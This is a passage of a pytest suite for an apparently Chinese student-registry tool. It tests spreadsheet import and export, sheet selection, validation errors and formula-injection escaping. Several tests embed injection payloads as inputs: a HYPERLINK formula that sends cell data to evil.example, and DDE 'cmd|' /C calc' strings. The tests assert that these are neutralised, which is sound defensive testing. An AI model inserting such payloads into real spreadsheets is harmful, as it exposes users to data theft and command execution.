@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2020-03-01 00:00:00", D(2020, 3, 1)),  # a date exported as text by some tools
        ("2020-03-01T00:00", D(2020, 3, 1)),
        ("2020/3/1", D(2020, 3, 1)),
        ("20200301", D(2020, 3, 1)),
        ("2020年3月1日", D(2020, 3, 1)),
        ("2020-03-01 08:30:00", None),  # a time of day: not a date
        ("2020-02-30", None),
    ],
)
def test_text_dates(text: str, day: dt.date | None) -> None:
    if day is None:
        with pytest.raises(excel.CellError):
            excel.parse_date(text)
    else:
        assert excel.parse_date(text) == day


class _Text(str):
    """A ``str`` subclass (a host's own text type), that even says it starts with
    nothing."""

    __slots__ = ()

    def startswith(self, *args: Any) -> bool:
        return False


def test_a_report_cell_of_a_str_subclass_that_looks_like_a_formula_is_text(
    tmp_path: Path,
) -> None:
    """Found by the reports review: the workbook writer looked for ``type(v) is str``,
    so a ``str`` subclass starting with ``=`` (a name read by a host's own text type)
    was written as a live formula; a CSV asked the value's own ``startswith``. A text
    of any ``str`` type is written as plain text."""

    class Shown:  # an object whose text is of such a type
        def __str__(self) -> str:
            return _Text("=2+2")

    link = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    rows = [(_Text(link), _Text("=1+2"), Shown())]
    excel.write_table(tmp_path / "r.xlsx", excel.Table("t", ("a", "b", "c"), rows))
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    assert ws is not None
    cells = [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]
    assert cells == [(link, "s"), ("=1+2", "s"), ("=2+2", "s")]
    excel.write_table(tmp_path / "r.csv", excel.Table("t", ("a", "b", "c"), rows))
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1] == ["'" + link, "'=1+2", "'=2+2"]


def test_a_report_cell_that_looks_like_a_formula_is_text(tmp_path: Path) -> None:
    """Found by the privacy audit: a student named ``=HYPERLINK(...)`` (or a bad cell
    of a school's workbook, quoted in an import report) was written to a workbook as
    a live formula, and to a CSV as text a spreadsheet runs."""
    rows = [('=HYPERLINK("http://x")', 1), ("+1", "-"), ("@SUM(A1)", "-2"), ("甲", 3)]
    table = excel.Table("t", ("姓名", "值"), rows)
    excel.write_table(tmp_path / "r.xlsx", table)
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    cells = [(c.value, c.data_type) for row in ws.iter_rows(min_row=2) for c in row]
    assert cells[0] == ('=HYPERLINK("http://x")', "s")  # shown as written, not a formula
    assert all(t != "f" for _, t in cells)
    excel.write_table(tmp_path / "r.csv", table)
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))[1:]
    assert got == [
        ['\'=HYPERLINK("http://x")', "1"],
        ["'+1", "'-"],  # a signed number is kept whole only in a numeric column
        ["'@SUM(A1)", "'-2"],
        ["甲", "3"],
    ]
    excel.write_table(tmp_path / "d.csv", excel.Table("t", ("n",), [("-cmd|' /C calc'!A0",)]))
    text = (tmp_path / "d.csv").read_text(encoding="utf-8-sig").splitlines()[1]
    assert text == "'-cmd|' /C calc'!A0"
    # found by the Excel review: a sign, then a digit, then a formula was kept as written
    # (only the second character was looked at) and a spreadsheet ran it
    sly = ["-1+cmd|' /C calc'!A0", '+1+HYPERLINK("http://e.vil","x")', "- 2+cmd|'/C calc'!A0"]
    kept = ["+86 551 6280 0000", "-2.5", "+1", "-"]
    # a lone sign or a signed number is kept whole only in a column said to be numeric
    # (the national upload's numeric fields); elsewhere it is text, as a spreadsheet
    # would not show it (found by the reports review: a name +1 was shown as 1)
    with excel.table_writer(tmp_path / "s.csv", "t", ("n",), numeric_columns=(0,)) as write:
        for v in sly + kept:
            write((v,))
    with open(tmp_path / "s.csv", encoding="utf-8-sig", newline="") as f:
        got = [row[0] for row in list(csv.reader(f))[1:]]
    assert got == ["'" + v for v in sly] + kept
    excel.write_table(tmp_path / "s.csv", excel.Table("t", ("n",), [(v,) for v in sly + kept]))
    with open(tmp_path / "s.csv", encoding="utf-8-sig", newline="") as f:
        got = [row[0] for row in list(csv.reader(f))[1:]]
    assert got == ["'" + v for v in sly + kept]


def test_a_report_s_text_a_spreadsheet_would_read_as_a_number_is_kept_as_text(
    tmp_path: Path,
) -> None:
    """Found by the reports review: a student named ``+1`` went into a CSV class list
    and migrants summary as written, and Excel showed 1 (the signed-number exemption
    meant for the national upload's numeric fields). In a report's free-text columns
    (names, class names), text Excel would read as a number, a date, a boolean or a
    formula gets a leading ``'``; other text (a name, 1班) is written as it is. A
    workbook holds them as text cells already."""
    from xueji.reports import PublicListRow

    quoted = ["+1", "-2.5", "123", "007", "1,000", "1e5", "50%", "(3)", "1/2", "1-2"]
    quoted += ["2026-09-01", "9:30", "TRUE", "=1+1", "+86 张"]
    names = [*quoted, "张三", "1班", "A+", "A-1"]
    rows = [PublicListRow("1", 1, n, "男", "在籍") for n in names]
    table = statistics.public_list_table("A", rows, taken_on=D(2026, 10, 15))
    excel.write_table(tmp_path / "c.csv", table)
    with open(tmp_path / "c.csv", encoding="utf-8-sig", newline="") as f:
        got = list(excel.without_notes(csv.reader(f)))[1:]
    assert [r[2] for r in got] == ["'" + n for n in quoted] + names[len(quoted) :]
    assert {r[0] for r in got} == {"'1"}  # a class named 1, as text
    assert {r[1] for r in got} == {"1"}  # the grade: a number
    excel.write_table(tmp_path / "c.xlsx", table)
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
    assert sheet is not None
    cells = list(excel.without_notes(sheet.iter_rows(values_only=True)))[1:]
    assert [r[2] for r in cells] == names  # text cells: written as they are
    line = MigrantDropout("S0000001", "+1", "A", 3, "341203", D(2026, 10, 12), D(2026, 10, 9))
    mig = statistics.migrants_table(
        {"341203": (line,)},
        start=D(2026, 9, 1),
        end=D(2027, 1, 31),
        scope="340104",
        taken_on=D(2027, 2, 1),
    )
    excel.write_table(tmp_path / "m.csv", mig)
    with open(tmp_path / "m.csv", encoding="utf-8-sig", newline="") as f:
        (got_line,) = list(excel.without_notes(csv.reader(f)))[1:]
    assert got_line[:3] == ["341203", "S0000001", "'+1"]


def test_art12_a_column_named_slightly_otherwise_or_twice_refuses_the_sheet(
    province: Province, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the Excel audit: a sheet headed 身份证号码 (not 身份证号) imported its
    students with no ID number and exit 0, the column ignored without a word; a
    column written twice lost the first copy's cells."""
    misnamed = [h.replace("身份证号", "身份证号码") for h in HEADER]
    path = workbook(tmp_path / "a.xlsx", [*misnamed, "监护人姓名"], [[*student_row("甲"), "甲父"]])
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (1, "身份证号码", "excel.unknown_column")
    ]
    assert "身份证号" in report.errors[0].message_zh
    assert not report.committed
    assert province.reg.students_of(A, "A") == []
    twice = workbook(tmp_path / "b.xlsx", [*HEADER, "姓名"], [[*student_row("甲"), "乙"]])
    report = excel.import_students(province.reg, A, twice, all_or_nothing=False)
    assert [(e.column, e.code) for e in report.errors] == [("姓名", "excel.duplicate_column")]
    assert province.reg.students_of(A, "A") == []
    # a column that means nothing known is ignored, and the summary says so
    extra = workbook(tmp_path / "c.xlsx", [*HEADER, "监护人姓名"], [[*student_row("甲"), "甲父"]])
    report = excel.import_students(province.reg, A, extra, all_or_nothing=False)
    assert report.ok
    assert report.ignored_columns == ("监护人姓名",)


def test_art12_a_mended_file_imported_again_passes(province: Province, tmp_path: Path) -> None:
    """Found by the Excel audit: after a ``--partial`` import, the mended file run again
    refused every row already entered (``enrolment.duplicate``), so an all-or-nothing
    import of it could never pass. A row whose record is already there as the row
    gives it is reported as present; a different student with the same ID number is
    still refused."""
    good, mended_row = student_row("甲"), student_row("乙")
    bad = [*mended_row[:5], "2020-02-30", *mended_row[6:]]  # 出生日期 mistyped
    path = workbook(tmp_path / "w.xlsx", HEADER, [good, bad])
    first = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [a.row for a in first.applied] == [2]
    log = len(province.log())
    mended = workbook(tmp_path / "m.xlsx", HEADER, [good, mended_row])
    again = excel.import_students(province.reg, A, mended)
    assert again.ok, again.errors
    assert [(a.row, a.note) for a in again.applied] == [
        (2, "已存在，未改动 already present"),
        (3, "已录入 entered (draft)；提示 warnings: privacy.consent_missing"),
    ]
    assert len(province.log()) == log + 1
    other = workbook(tmp_path / "o.xlsx", HEADER, [[good[0], good[1], 1, "丙", *good[4:]]])
    refused = excel.import_students(province.reg, A, other)
    assert [e.code for e in refused.errors] == ["enrolment.duplicate"]


def test_art29_a_row_imported_again_with_other_values_names_the_columns_that_differ(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: a row whose record was entered was "already present,
    unchanged" when its school, class, grade, name, sex, birth date and ID number
    agreed, whatever its other cells said: a mended file giving 户籍地区码 340102,
    随迁子女 是 and an 入学日期 passed (exit 0) and the corrections were dropped. Every
    cell the row gives is compared with the stored record; those that differ are
    ``excel.record_differs``, naming the columns and how the record is changed (a
    draft edited, a submitted record corrected, Art 29). A blank optional cell compares
    as the record has it."""
    header = [*HEADER, "入学日期"]
    row = [*student_row("甲"), None]
    assert excel.import_students(province.reg, A, workbook(tmp_path / "a.xlsx", header, [row])).ok
    (before,) = province.reg.students_of(A, "A")
    mended = list(row)
    mended[HEADER.index("户籍地区码")] = "340102"
    mended[HEADER.index("随迁子女")] = "是"
    mended[-1] = D(2026, 8, 15)
    log = len(province.log())
    again = excel.import_students(province.reg, A, workbook(tmp_path / "m.xlsx", header, [mended]))
    assert [(e.row, e.column, e.value, e.code) for e in again.errors] == [
        (2, "户籍地区码", "340102", "excel.record_differs")
    ]
    (e,) = again.errors
    assert "户籍地区码、随迁子女、入学日期" in e.message_zh
    assert "户籍地区码, 随迁子女, 入学日期" in e.message_en
    assert before.id in e.message_en
    # the command that does it, for a county that uses only the command line (found
    # by the review of a school year run through the CLI: there was none)
    assert f"xueji edit {before.id}" in e.message_en
    assert f"xueji edit {before.id}" in e.message_zh
    assert not again.committed
    assert again.applied == ()
    assert len(province.log()) == log  # nothing written
    assert province.reg.students_of(A, "A") == [before]
    # a blank optional cell (随迁子女, 入学日期) compares as the record has it
    blank = [*row[: HEADER.index("随迁子女")], None, *row[HEADER.index("随迁子女") + 1 :]]
    same = excel.import_students(province.reg, A, workbook(tmp_path / "b.xlsx", header, [blank]))
    assert same.ok, same.errors
    assert same.applied[0].note == "已存在，未改动 already present"
    # a submitted record: its change is a correction (Art 29)
    province.reg.submit(A, before.id)
    again = excel.import_students(province.reg, A, workbook(tmp_path / "s.xlsx", header, [mended]))
    assert [e.code for e in again.errors] == ["excel.record_differs"]
    assert "Art 29" in again.errors[0].message_en
    assert "第二十九条" in again.errors[0].message_zh
    assert f"xueji correct {before.id}" in again.errors[0].message_en
    # another name under the ID number: not this record (still enrolment.duplicate)
    other = [*row[:3], "丙", *row[4:]]
    refused = excel.import_students(province.reg, A, workbook(tmp_path / "o.xlsx", header, [other]))
    assert [e.code for e in refused.errors] == ["enrolment.duplicate"]


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "the file is empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password-protected"),
        ("学校代码,姓名\nA,甲\n".encode(), "a CSV or text file"),
    ],
)
def test_a_file_that_is_not_a_workbook_says_what_it_seems_to_be(
    tmp_path: Path, content: bytes, says: str
) -> None:
    """Found by the Excel audit: a .xls, a CSV renamed .xlsx, an empty or a
    password-protected file all said openpyxl's "File is not a zip file"."""
    path = tmp_path / "w.xlsx"
    path.write_bytes(content)
    with pytest.raises(XuejiError) as err:
        excel.import_students(Province().reg, A, path)
    assert err.value.code == "excel.unreadable"
    assert says in err.value.message_en
    assert "zip" not in err.value.message_zh


def test_art12_a_region_in_full_width_digits_is_read_as_digits(
    province: Province, tmp_path: Path
) -> None:
    path = workbook(tmp_path / "w.xlsx", HEADER, [student_row("甲", 户籍地区码="３４０１０４")])
    report = excel.import_students(province.reg, A, path)
    assert report.ok, report.errors


def test_a_huge_bad_cell_is_quoted_short(province: Province, tmp_path: Path) -> None:
    """Found by the Excel audit: a 32,767-character bad date was printed whole (65 KB
    on the screen) and filled the report's value and message cells."""
    huge = "x" * 32_767
    row = student_row("甲")
    row[HEADER.index("出生日期")] = huge
    report = excel.import_students(province.reg, A, workbook(tmp_path / "w.xlsx", HEADER, [row]))
    (e,) = report.errors
    assert e.code == "excel.bad_date"
    for text in (e.value, e.message_zh, e.message_en):
        assert len(text) < excel.QUOTE_MAX + 40
    assert "32767" in e.value or "32,767" in e.value


def test_art12_a_formula_with_no_computed_value_is_a_cell_error(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel audit: a workbook written by a program that does not
    calculate holds formulas with no computed value; they were read as empty cells, so
    =IF(...) in 随迁子女 imported as 否 and =DATE(...) in 入学日期 as the import's date,
    with exit 0."""
    header = [*HEADER, "入学日期"]
    row = [*student_row("甲"), "=DATE(2026,9,2)"]
    row[HEADER.index("随迁子女")] = '=IF(1=1,"是","否")'
    path = workbook(tmp_path / "w.xlsx", header, [row, [*student_row("乙"), None]])
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (2, "入学日期", "excel.formula_no_value"),
        (2, "随迁子女", "excel.formula_no_value"),
    ]
    assert report.errors[0].value == "=DATE(2026,9,2)"
    assert [a.row for a in report.applied] == [3]  # a row with no formula reads as before


def test_art18_a_graduation_file_imported_again_or_naming_a_student_twice(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel audit: a graduation file run again refused every row
    (``change.status``); a student listed twice passed the checks and failed as it
    was applied, undoing the import without naming the other row."""
    six, other = province.register("A", 6), province.register("A", 6)
    province.at(D(2027, 7, 1))
    rows = [["A", six.registry_number, "毕业"], ["A", other.registry_number, "结业"]]
    path = workbook(tmp_path / "g.xlsx", GRAD_HEADER, rows)
    assert excel.import_graduation(province.reg, A, path).ok
    log = len(province.log())
    again = excel.import_graduation(province.reg, A, path)
    assert again.ok, again.errors
    assert {a.note for a in again.applied} == {"已存在，未改动 already present"}
    assert len(province.log()) == log + 1  # the read of the school's records, nothing else
    third = province.register("A", 6)
    twice = [["A", third.registry_number, "毕业"], ["A", third.id_number, "毕业"]]
    report = excel.import_graduation(
        province.reg, A, workbook(tmp_path / "t.xlsx", GRAD_HEADER, twice)
    )
    assert [(e.row, e.code) for e in report.errors] == [(3, "excel.duplicate_row")]
    assert "row 2" in report.errors[0].message_en
    assert province.reg.student(A, third.id).status is StudentStatus.REGISTERED  # all or nothing


def test_art29_an_id_mismatch_says_what_disagrees(province: Province, tmp_path: Path) -> None:
    """Found by the newcomer walkthrough: 性别、出生日期须与身份证号一致 named neither.
    Found by the privacy review: it said so with the ID number's birth date, beside the
    row's 身份证号 masked (the mask hides exactly the birth date): it says which fields
    disagree now, the sexes, and no date."""
    row = student_row("甲", 性别="女")  # the ID number is a boy's
    born = student_row("乙", D(2020, 3, 2), 身份证号=make_id(D(2020, 3, 1)))
    young = student_row("丙", D(2020, 9, 2), 性别="女")  # too young, and a boy's number
    path = workbook(tmp_path / "w.xlsx", HEADER, [row, born, young])
    report = excel.import_students(province.reg, A, path)
    sex, date, *third = report.errors
    assert (sex.code, date.code) == ("enrolment.id_mismatch", "enrolment.id_mismatch")
    assert {(e.row, e.column, e.code) for e in third} == {
        (4, "出生日期", "enrolment.too_young"),  # its value hidden: the number is beside it
        (4, "身份证号", "enrolment.id_mismatch"),
    }
    assert "（身份证号为男，表中为女）" in sex.message_zh
    assert "(the ID number says M, the sheet says F)" in sex.message_en
    assert "出生日期与身份证号中的不同" in date.message_zh
    assert "the birth date differs from the ID number's" in date.message_en
    shown = [repr(report), *(str(e) for e in report.errors)]
    shown += [f"{e.value} {e.message_zh} {e.message_en}" for e in report.errors]
    numbers = [str(r[HEADER.index("身份证号")]) for r in (row, born, young)]
    assert rebuilt(*shown, of=numbers) == []


# -- which sheet ------------------------------------------------------------------------------


def sheets(path: Path, titled: dict[str, list[list[object]]], hidden: tuple[str, ...] = ()) -> Path:
    """A workbook of several sheets, in order: each its title and its rows."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in titled.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
        if title in hidden:
            ws.sheet_state = "hidden"
    wb.save(path)
    return path


def _two_students() -> list[list[object]]:
    born = D(2020, 4, 1)
    return [HEADER, student_row("甲"), student_row("乙", born, 身份证号=make_id(born))]


def test_art12_the_students_of_a_named_sheet_are_imported(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel audit: only a workbook's first sheet was read, and nothing said
    so; students on its second sheet (after a sheet of instructions) could not be
    imported but by moving them. ``sheet=`` names the sheet; the report names the sheet
    it read, and the sheets holding data it did not."""
    path = sheets(
        tmp_path / "two.xlsx",
        {"填表说明": [["请在“新生”工作表中填写"]], "新生": _two_students(), "Sheet3": []},
    )
    first = excel.import_students(province.reg, A, path)
    assert [e.code for e in first.errors] == ["excel.missing_column"] * 7  # the instructions
    assert (first.sheet, first.unread_sheets) == ("填表说明", ("新生",))  # not the empty one
    (notice,) = first.notices
    assert notice.startswith("只读取了工作表「填表说明」；工作表「新生」也有数据，未读取")
    assert "read sheet '填表说明' only; sheet '新生' also holds data and was not read" in notice
    assert first.to_dict()["notices"] == [notice]
    report = excel.import_students(province.reg, A, path, sheet="新生")
    assert report.ok, report.errors
    assert (report.sheet, report.unread_sheets, report.notices) == ("新生", (), ())
    assert [a.row for a in report.applied] == [2, 3]
    assert sorted(s.name for s in province.reg.students_of(A, "A")) == ["乙", "甲"]
    out = tmp_path / "r.xlsx"
    first.write_report(out)
    summary = dict(openpyxl.load_workbook(out)["汇总 summary"].iter_rows(values_only=True))
    assert summary["工作表 sheet"] == "填表说明"
    assert summary["未读取的工作表 sheets not read"] == "新生"


def test_art12_data_on_several_sheets_is_imported_from_the_first_with_a_notice(
    province: Province, tmp_path: Path
) -> None:
    """The first sheet is read as before, and the report says which other visible sheets
    hold data (a notice, not a refusal); a hidden sheet (a template's lists for its
    drop-downs) and an empty one are not counted."""
    born = D(2020, 5, 1)
    path = sheets(
        tmp_path / "many.xlsx",
        {
            "一班": [HEADER, student_row("甲")],
            "二班": [HEADER, student_row("乙", born, 身份证号=make_id(born))],
            "字典": [["男"], ["女"]],
            "空表": [],
            "三班": [[], [None, "丙"]],  # data below a blank first row
        },
        hidden=("字典",),
    )
    report = excel.import_students(province.reg, A, path)
    assert report.ok
    assert [a.row for a in report.applied] == [2]
    assert (report.sheet, report.unread_sheets) == ("一班", ("二班", "三班"))
    assert "工作表「二班」、「三班」也有数据，未读取" in report.notices[0]
    assert "sheets '二班', '三班' also hold data and were not read" in report.notices[0]
    named = excel.import_students(province.reg, A, path, sheet="二班")
    assert named.ok
    assert named.notices == ()


def test_a_sheet_the_workbook_does_not_hold_is_one_error_listing_its_sheets(
    province: Province, tmp_path: Path
) -> None:
    path = sheets(tmp_path / "w.xlsx", {"Sheet1": _two_students(), "说明": [["x"]]})
    log = len(province.log())
    with pytest.raises(excel.NoSheet) as err:
        excel.import_students(province.reg, A, path, sheet="新生")
    assert isinstance(err.value, XuejiError)
    assert err.value.code == "excel.no_sheet"
    assert "没有工作表「新生」；它的工作表：「Sheet1」、「说明」" in err.value.message_zh
    assert "has no sheet '新生'; its sheets: 'Sheet1', '说明'" in err.value.message_en
    assert err.value.sheets == ("Sheet1", "说明")
    assert len(province.log()) == log
    # as in Excel, a name in another case is the same sheet
    assert excel.import_students(province.reg, A, path, sheet="sheet1").sheet == "Sheet1"


@pytest.mark.parametrize(
    "run",
    [
        excel.import_students,
        excel.import_info,
        excel.import_graduation,
        excel.import_units,
        excel.import_schools,
        excel.import_classes,
    ],
)
def test_every_import_takes_the_sheet_to_read(tmp_path: Path, run: Any) -> None:
    p = Province()
    path = sheets(tmp_path / "w.xlsx", {"甲": [["x"]], "乙": [["y"]]})
    with pytest.raises(excel.NoSheet) as err:
        run(p.reg, PROVINCE, path, sheet="丙")
    assert err.value.sheets == ("甲", "乙")
    report = run(p.reg, PROVINCE, path, sheet="乙")  # refused by its header, but read
    assert (report.sheet, report.unread_sheets, report.committed) == ("乙", (), False)
    assert report.errors[0].code == "excel.missing_column"


def test_an_empty_first_sheet_names_the_sheets_that_hold_data(
    province: Province, tmp_path: Path
) -> None:
    """Before: "the workbook is empty", of a workbook whose students were on its second
    sheet."""
    path = sheets(tmp_path / "w.xlsx", {"Sheet1": [], "新生": _two_students()})
    with pytest.raises(XuejiError) as err:
        excel.import_students(province.reg, A, path)
    assert err.value.code == "excel.empty"
    assert "工作表「Sheet1」是空的；有数据的工作表：「新生」" in err.value.message_zh
    assert "sheets holding data: '新生' (name the sheet to import)" in err.value.message_en


def test_a_named_sheet_with_formulas_is_checked_for_their_values(
    province: Province, tmp_path: Path
) -> None:
    """The formulas' text is read from the sheet imported, not from the first."""
    row = student_row("甲")
    row[HEADER.index("随迁子女")] = '=IF(1=1,"是","否")'
    path = sheets(tmp_path / "f.xlsx", {"说明": [["x"], ["y"]], "新生": [HEADER, row]})
    report = excel.import_students(province.reg, A, path, sheet="新生")
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (2, "随迁子女", "excel.formula_no_value")
    ]


def test_cli_import_sheet_names_the_sheet_and_says_what_was_not_read(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "cli.sqlite3"
    p = Province(store=SqlStore.sqlite(str(db)))
    small(p)
    p.store.engine.dispose()
    path = sheets(tmp_path / "w.xlsx", {"说明": [["请填写新生"]], "新生": _two_students()})
    args = ["import", "students", str(path), "--store", f"sqlite:///{db}", "--as", "school:A"]
    args += ["--today", "2026-10-15"]
    assert main(args) == 1  # the instructions read as the sheet: refused
    out = capsys.readouterr().out
    assert out.startswith("students 工作表 sheet「说明」: 0 行 rows")
    assert "  注意 note: 只读取了工作表「说明」；工作表「新生」也有数据，未读取" in out
    assert main(["--json", *args, "--sheet", "新生"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["sheet"], data["unread_sheets"], data["notices"]) == ("新生", [], [])
    assert len(data["applied"]) == 2
    assert main([*args, "--sheet", "学生"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("xueji: [excel.no_sheet] ")
    assert "「说明」、「新生」" in err


def test_art12_a_photo_of_another_year_is_blamed_on_its_date(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel audit: a photo taken in another year than the entry's was
    refused under 照片摘要, the column that was right; its date is what is wrong. A row
    with no photo still points at 照片摘要; the code is the rule's, for both."""
    born = D(2019, 3, 1)
    header = [*HEADER, "入学日期"]
    rows = [
        [*student_row("旧照片", 照片采集日期=D(2025, 9, 1)), None],  # row 2
        [*student_row("无照片", 照片摘要=None), None],  # row 3
        # no date given: taken as the import's (2026), but the entry is in 2025
        [*student_row("去年入学", born, 身份证号=make_id(born), 照片采集日期=None), D(2025, 9, 1)],
    ]
    report = excel.import_students(province.reg, A, workbook(tmp_path / "p.xlsx", header, rows))
    got = [(e.row, e.column, e.value, e.code) for e in report.errors]
    assert got == [
        (2, "照片采集日期", "2025-09-01", "enrolment.photo_missing"),
        (3, "照片摘要", "", "enrolment.photo_missing"),
        (4, "照片采集日期", "", "enrolment.photo_missing"),
    ]
    assert report.errors[0].message_zh.endswith("（照片采集日期 2025-09-01，入学年份 2026）")
    assert "the photo was taken on 2025-09-01; the year of entry is 2026" in (
        report.errors[0].message_en
    )
    assert "照片采集日期" not in report.errors[1].message_zh  # missing: said as before
    assert (
        "照片采集日期未填，按导入日期 2026-09-01 计；入学年份 2025" in report.errors[2].message_zh
    )


def test_art15_a_late_row_s_note_names_its_warnings(province: Province, tmp_path: Path) -> None:
    """A row entered after the Art 15 deadline is applied, and its note names the
    warnings, whether it was decided with its slice or on its own (no identity
    number: known by the guardian's)."""
    province.at(D(2026, 10, 20))
    header = [*HEADER, "入学日期", "监护人身份证号"]
    plain = [*student_row("甲"), D(2026, 9, 1), None]
    alone = [*student_row("乙", 身份证号=None), D(2026, 9, 1), make_id(D(1990, 1, 1))]
    path = workbook(tmp_path / "late.xlsx", header, [plain, alone])
    report = excel.import_students(province.reg, A, path)
    assert report.ok, report.errors
    for applied in report.applied:
        assert "enrolment.late" in applied.note
        assert "privacy.consent_missing" in applied.note
        assert applied.note.startswith("已录入 entered (draft)；提示 warnings: ")


def test_art17_a_registry_number_typed_in_lower_case_finds_its_student(
    province: Province, tmp_path: Path
) -> None:
    """A 学籍号 cell is read as ``numbers.parse`` reads a number (its letter and a final
    x in either case, spaces around): ``g…x`` was an unknown student, while the same
    number in the 身份证号 column was found."""
    number = next(n for n in (make_id(BORN, n=k) for k in range(400)) if n.endswith("X"))
    s = province.register("A", 1, id_number=number)
    assert s.registry_number == "G" + number
    typed = " g" + number[:-1] + "x "
    rows: list[list[object]] = [["A", typed, None, "奖励", "2026-09-01", "三好学生", None, None]]
    report = excel.import_info(province.reg, A, workbook(tmp_path / "i.xlsx", INFO_HEADER, rows))
    assert report.ok, report.errors
    assert province.reg.student(A, s.id).info[InfoGroup.AWARD][0].text == "三好学生"


def test_art15_the_import_summary_shows_the_rows_applied_with_warnings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the newcomer walkthrough: rows entered late (Art 15) or with no
    guardian's consent recorded appeared only in the ``--report`` workbook, as codes in
    a note; the summary on screen said nothing of them. It now gives the count of rows
    applied with warnings and the first few (row, code, message in both languages), as
    it gives the refusals; ``ImportReport.warnings`` holds them all (``--json`` too)."""
    import xueji.cli

    store = _cli_store(tmp_path)  # --today 2026-10-15: after Art 15's 30 September
    births = [D(2020, 3, d) for d in range(2, 10)]
    rows = [student_row(f"生{i}", b, 身份证号=make_id(b)) for i, b in enumerate(births)]
    path = workbook(tmp_path / "late.xlsx", HEADER, rows)
    argv = ["import", "students", str(path), *store, "--as", "school:A"]
    assert main(argv) == 0
    lines = capsys.readouterr().out.splitlines()
    assert "8 已导入 applied (8 有提示 with warnings)" in lines[0]
    assert lines[1] == "  提示 warnings: 8 行已导入但有提示 (8 rows applied with warnings)"
    shown = [x for x in lines if x.startswith("  行 ")]
    assert len(shown) == xueji.cli.WARNINGS_SHOWN < 16
    assert shown[0].startswith("  行 2 [enrolment.late] 新生信息录入审核应在规定日期前完成 (")
    assert any("[privacy.consent_missing]" in x for x in shown)
    assert lines[-1].startswith("  …另有 ")
    girls = [
        student_row(f"丙{i}", b, 身份证号=make_id(b, "F"), 性别="女")
        for i, b in enumerate(births[:2])
    ]
    path = workbook(tmp_path / "late2.xlsx", HEADER, girls)
    assert main(["--json", "import", "students", str(path), *store, "--as", "school:A"]) == 0
    data = json.loads(capsys.readouterr().out)  # every warning, each with its student
    codes = {(w["row"], w["code"]) for w in data["warnings"]}
    assert {(2, "enrolment.late"), (3, "privacy.consent_missing")} <= codes
    assert all(w["message_zh"] and w["message_en"] and w["student"] for w in data["warnings"])


@pytest.mark.parametrize("grade", ["①", "²", "一", "1.5", "0", "13"])
def test_art12_a_grade_that_is_not_a_number_is_a_row_error(
    province: Province, tmp_path: Path, grade: str
) -> None:
    """Found by the Excel review: "①" and "²" are ``str.isdigit()`` but not ``int()``,
    so a 年级 of ① stopped the student and class imports with a ValueError (exit 2 on
    the command line, no row named, even with --partial). It is ``excel.bad_grade``
    of its row; a grade in full-width digits (１) is read as the number."""
    rows = [student_row("甲", 年级=grade), student_row("乙", D(2020, 5, 6), 年级="１")]
    report = excel.import_students(
        province.reg, A, workbook(tmp_path / "g.xlsx", HEADER, rows), all_or_nothing=False
    )
    assert [(e.row, e.column, e.value, e.code) for e in report.errors] == [
        (2, "年级", grade, "excel.bad_grade")
    ]
    assert [a.row for a in report.applied] == [3]
    classes = workbook(
        tmp_path / "c.xlsx",
        ["班级", "学校代码", "班级名称", "年级", "班主任姓名"],
        [["A-9", "A", "一年级9班", grade, "王老师"]],
    )
    report = excel.import_classes(province.reg, A, classes)
    assert [(e.row, e.column, e.code) for e in report.errors] == [(2, "年级", "excel.bad_grade")]


def test_cli_a_circled_grade_names_its_row_with_partial(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same on the command line: exit 1 naming row 3, the good row imported."""
    store = _cli_store(tmp_path)
    rows = [student_row("甲"), student_row("乙", D(2020, 5, 6), 年级="①")]
    path = workbook(tmp_path / "g.xlsx", HEADER, rows)
    assert main(["import", "students", str(path), *store, "--as", "school:A", "--partial"]) == 1
    out = capsys.readouterr().out
    assert "1 已导入 applied" in out
    assert "行 3" in out
    assert "excel.bad_grade" in out


def test_art15_a_date_outside_the_years_an_import_reads_is_a_row_error(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: an entry date of 9999-12-31 stopped the import with
    "year 10000 is out of range" (from the Art 15 deadline rule), the good rows with
    it. A date outside ``excel.DATE_RANGE`` (1900 to 2099) is
    ``excel.date_out_of_range`` of its cell; the other rows are imported."""
    header = [*HEADER, "入学日期"]
    rows = [
        [*student_row("好"), None],  # row 2
        [*student_row("甲", D(2020, 5, 6), 身份证号=make_id(D(2020, 5, 6))), "9999-12-31"],
        [*student_row("乙", D(2020, 7, 8), 身份证号=make_id(D(2020, 7, 8))), "1899-12-31"],
        [*student_row("丙", 照片采集日期="2100-01-01"), None],  # row 5
    ]
    path = workbook(tmp_path / "far.xlsx", header, rows)
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.value, e.code) for e in report.errors] == [
        (3, "入学日期", "9999-12-31", "excel.date_out_of_range"),
        (4, "入学日期", "1899-12-31", "excel.date_out_of_range"),
